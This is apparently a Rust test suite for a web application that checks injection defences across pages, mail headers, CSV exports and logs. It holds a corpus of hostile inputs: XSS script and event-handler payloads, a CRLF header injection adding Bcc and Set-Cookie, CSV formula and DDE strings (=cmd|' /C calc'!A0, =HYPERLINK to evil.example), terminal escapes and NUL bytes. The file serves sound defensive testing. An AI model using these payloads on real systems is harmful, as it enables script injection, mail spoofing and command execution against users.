//! Threat 17 (injection into logs, mail headers, CSV, pages): a payload corpus goes through every text field of every
//! form into every sink.

use serde_json::Value;
use time::Duration;

use sea_orm::ConnectionTrait;

use crate::support::{Answer, Log, Person, Team, World, clock, crawl, html, stage};

const PAYLOADS: [&str; 12] = [
    "<script>window.pwned=1</script>",
    "\"><img src=x onerror=pwned()>",
    "'><svg/onload=pwned()>",
    "</textarea></title><script>pwned()</script>",
    "pwned\r\nBcc: victim@example.com\r\nSet-Cookie: pwned=1",
    "=HYPERLINK(\"https://evil.example?pwned\",\"pwned\")",
    "{{pwned}}${pwned}#{pwned}<%=pwned%>",
    "\u{1b}[2J\u{1b}[31mpwned\u{1b}]0;pwned\u{7}",
    "pwned\u{202e}gnp.exe",
    "pwned\0after",
    "javascript:pwned()//",
    "\n{\"level\":\"ERROR\",\"pwned\":true}",
];

fn check_page(answer: &Answer, complaints: &mut Vec<String>) {
    let place = &answer.address;
    if answer.status.is_server_error() {
        complaints.push(format!("{place}: {}", answer.status));
    }
    if answer.headers.contains_key("pwned") || answer.cookie("pwned").is_some() {
        complaints.push(format!("{place}: a header was injected"));
    }
    let kind = answer.headers.get("content-type").and_then(|kind| kind.to_str().ok()).unwrap_or_default();
    if !kind.starts_with("text/html") || answer.status.is_redirection() {
        return;
    }
    let policy = answer.headers["content-security-policy"].to_str().unwrap();
    let nonce = policy.split("'nonce-").nth(1).and_then(|rest| rest.split('\'').next()).unwrap_or_default();
    let page = answer.page();
    for script in html::select(&page, "script") {
        let given = script.value().attr("nonce").unwrap_or_default();
        if nonce.is_empty() || given != nonce || html::text_of(script).contains("pwned") {
            complaints.push(format!("{place}: a script without our nonce: {}", script.html()));
        }
    }
    for element in html::select(&page, "*") {
        for (name, value) in element.value().attrs() {
            let link = matches!(name, "href" | "src" | "action" | "formaction");
            if name.starts_with("on") || (link && value.trim_start().to_lowercase().starts_with("javascript:")) {
                complaints.push(format!("{place}: {name}={value}"));
            }
        }
    }
    if !html::select(&page, "img[src='x'], svg[onload], style, [style]").is_empty() {
        complaints.push(format!("{place}: an element was injected"));
    }
}

/// Types the payload into every text field of every form, then reads every page again.
async fn type_everywhere(person: &mut Person, starts: &[&str], payload: &str, complaints: &mut Vec<String>) -> usize {
    let pages = crawl::pages(person, starts).await;
    let mut sent = 0;
    for (_, form) in crawl::forms(&pages, &["post"]) {
        let names: Vec<String> =
            form.text_fields().filter(|field| field.kind != "password").map(|field| field.name.clone()).collect();
        if names.is_empty() {
            continue;
        }
        let text = |name: &String| match name.as_str() {
            "email" | "technical" | "product" | "security" => "kept@alder.example.com".to_owned(),
            _ => payload.to_owned(),
        };
        let filled: Vec<(String, String)> = names.iter().map(|name| (name.clone(), text(name))).collect();
        let filled: Vec<(&str, &str)> = filled.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
        let answer = person.submit_form(&form, &form.filled(&filled)).await;
        check_page(&answer, complaints);
        check_page(&person.follow(answer).await, complaints);
        clock::pass(Duration::seconds(61));
        sent += 1;
    }
    sent
}

#[tokio::test]
async fn payloads_stay_text_in_every_sink() {
    let log = Log::begin();
    let world = World::new().await;
    let mut admin = world.admin("admin@nhs.example.com").await;
    let mut complaints = Vec::new();
    let mut mallory = world.partner("<b>Mallory</b> =1+1 \"onerror=x", "mallory@evil.example.com").await;
    for (at, payload) in PAYLOADS.iter().enumerate() {
        let mut team = Team::assemble(&world, &format!("alder{at}")).await;
        let home = format!("/registrations/{}", team.registration);
        let service = format!("/services/{}/edit", team.service);
        let starts = [home.as_str(), &service, "/organisations/new"];
        let sent = type_everywhere(&mut team.owner, &starts, payload, &mut complaints).await;
        assert!(sent >= 6, "{sent} forms");
        for answer in crawl::pages(&mut team.owner, &["/home", &home]).await {
            check_page(&answer, &mut complaints);
        }
        // In the address, too.
        let query = crate::support::person::urlencoded(&[
            ("search", payload),
            ("next", payload),
            ("done", payload),
            ("refused", payload),
            ("after", payload),
        ]);
        for page in ["/", "/sign-in", "/home", "/history", "/nowhere"] {
            check_page(&mallory.get(&format!("{page}?{query}")).await, &mut complaints);
        }
    }
    admin.sign_in().await;
    let mut seen = String::new();
    for answer in
        crawl::pages(&mut admin, &["/home", "/admin/queue", "/admin/organisations", "/admin/people", "/history"]).await
    {
        check_page(&answer, &mut complaints);
        seen += &answer.body;
    }
    assert!(seen.contains("pwned"), "no payload came through to the admins, so nothing was tried");
    world.work().await;
    for mail in world.mails() {
        let names: Vec<&str> = mail.headers.iter().map(|(name, _)| name.as_str()).collect();
        let known = ["From", "To", "Subject", "Date", "Message-ID", "MIME-Version", "Content-Type"];
        if names.iter().any(|name| !known.contains(name)) || mail.raw.contains("<script>") {
            complaints.push(format!("a mail has {names:?}"));
        }
    }
    for line in log.text().lines() {
        match serde_json::from_str::<Value>(line) {
            Ok(Value::Object(object)) if !object.contains_key("pwned") => {}
            _ => complaints.push(format!("a log line is no JSON object of ours: {line}")),
        }
        if line.contains('\u{1b}') {
            complaints.push(format!("a log line has an escape: {line:?}"));
        }
    }
    assert!(complaints.is_empty(), "{} of them:\n{}", complaints.len(), complaints.join("\n"));
}

#[tokio::test]
async fn a_spreadsheet_runs_nothing_of_the_history() {
    let world = World::new().await;
    let mut admin = world.admin("admin@nhs.example.com").await;
    let mut olive = world.partner("=cmd|' /C calc'!A0", "olive@alder.example.com").await;
    for name in ["=1+1", "+1", "-2", "@SUM(A1)", "=HYPERLINK(\"https://evil.example\",\"x\")"] {
        olive
            .fill("/organisations/new", "/api/create-organisation", &[("name", name)])
            .await
            .leads_to("/organisations/");
    }
    // One service that is published, waits for review again, and could not be published again.
    let mut team = Team::assemble(&world, "alder").await;
    let service = stage::add_service(&mut team.owner, &team.organisation, "=1+1", "alder").await;
    team.registration = stage::start(&mut team.owner, &service, "sandpit").await;
    team.fill_in(&[]).await;
    team.submit().await.leads_to("/registrations/");
    world.work().await;
    let profile = [("profile", "The NHS number finds the record of the patient.")];
    stage::save_scopes(&mut team.owner, &team.registration, &profile).await.leads_to("/registrations/");
    team.submit().await.leads_to("/registrations/");
    let failed = "UPDATE publications SET done_at = NULL, attempts = 1, last_error = '@SUM(A1) refused'";
    world.store.connection().execute_unprepared(failed).await.unwrap();
    let lists = [
        ("/admin/queue.csv", &["\"'=1+1\""][..]),
        ("/admin/clients.csv", &["\"'=1+1\""]),
        ("/admin/publications.csv", &["\"'=1+1\"", "\"'@SUM(A1) refused\""]),
        ("/admin/people.csv", &["\"'=cmd|' /C calc'!A0\""]),
    ];
    for (list, defused) in lists {
        let answer = admin.open(list).await;
        for cell in defused {
            assert!(answer.body.contains(cell), "{list} lacks {cell}: {}", answer.body);
        }
        assert!(answer.headers["content-type"].to_str().unwrap().starts_with("text/csv"), "{list}");
        assert!(answer.headers["content-disposition"].to_str().unwrap().contains("attachment"), "{list}");
        for cell in cells(&answer.body) {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{list}: {cell:?}");
        }
    }
    for person in [&mut admin, &mut olive] {
        let answer = person.open("/history.csv").await;
        assert!(answer.headers["content-type"].to_str().unwrap().starts_with("text/csv"));
        assert!(answer.body.contains("HYPERLINK"), "{}", answer.body);
        for cell in cells(&answer.body) {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
    }
}

/// The cells of RFC 4180 text.
fn cells(text: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            ('"', _) => quoted = !quoted,
            ('\r', false) if chars.peek() == Some(&'\n') => {}
            (',' | '\n', false) => cells.push(std::mem::take(&mut cell)),
            (c, _) => cell.push(c),
        }
    }
    cells
}

/// Far too much text is refused with a page, whatever field it is in, and never breaks a page.
#[tokio::test]
async fn very_long_texts_break_nothing() {
    let world = World::new().await;
    let mut team = Team::assemble(&world, "alder").await;
    let mut complaints = Vec::new();
    let home = format!("/registrations/{}", team.registration);
    type_everywhere(&mut team.owner, &[&home, "/organisations/new"], &"<pwned>".repeat(2_000), &mut complaints).await;
    for answer in crawl::pages(&mut team.owner, &["/home", &home]).await {
        check_page(&answer, &mut complaints);
    }
    assert!(complaints.is_empty(), "{}", complaints.join("\n"));
    let huge = "x".repeat(200_000);
    let answer = team.owner.post("/api/create-organisation", &[("name", &huge)]).await;
    assert_eq!(answer.status, 413);
}

/// PostgreSQL takes no NUL in a text: whatever is in the address bar, a list is a list.
#[tokio::test]
async fn controls_in_the_address_bar_search_for_nothing() {
    let mut worlds = vec![World::new().await];
    worlds.push(World::on_postgres().await);
    for world in worlds {
        let mut admin = world.admin("nul@nhs.example").await;
        for list in [
            "/history",
            "/admin/queue",
            "/admin/clients",
            "/admin/publications",
            "/admin/organisations",
            "/admin/people",
            "/history.csv",
            "/admin/clients.csv",
        ] {
            let fields = ["search", "kind", "action", "environment", "client_id", "state", "after"];
            let query: Vec<String> = fields.iter().map(|name| format!("{name}=%00")).collect();
            admin.get(&format!("{list}?{}", query.join("&"))).await.expect(200);
        }
    }
}

#[tokio::test]
async fn a_search_that_cannot_be_read_is_not_downloaded() {
    let world = World::new().await;
    let mut admin = world.admin("csv@nhs.example").await;
    let answer = admin.get("/history.csv?from=20260301&search=a%20b").await.expect(303);
    assert_eq!(answer.location(), "/history?from=20260301&search=a%20b");
    let page = admin.follow(answer).await.expect(200);
    assert!(page.text().contains("Enter a date as day, month and year"), "{}", page.text());
    assert!(page.body.contains("id=\"from-error\""), "the sentence stands at the field");
}
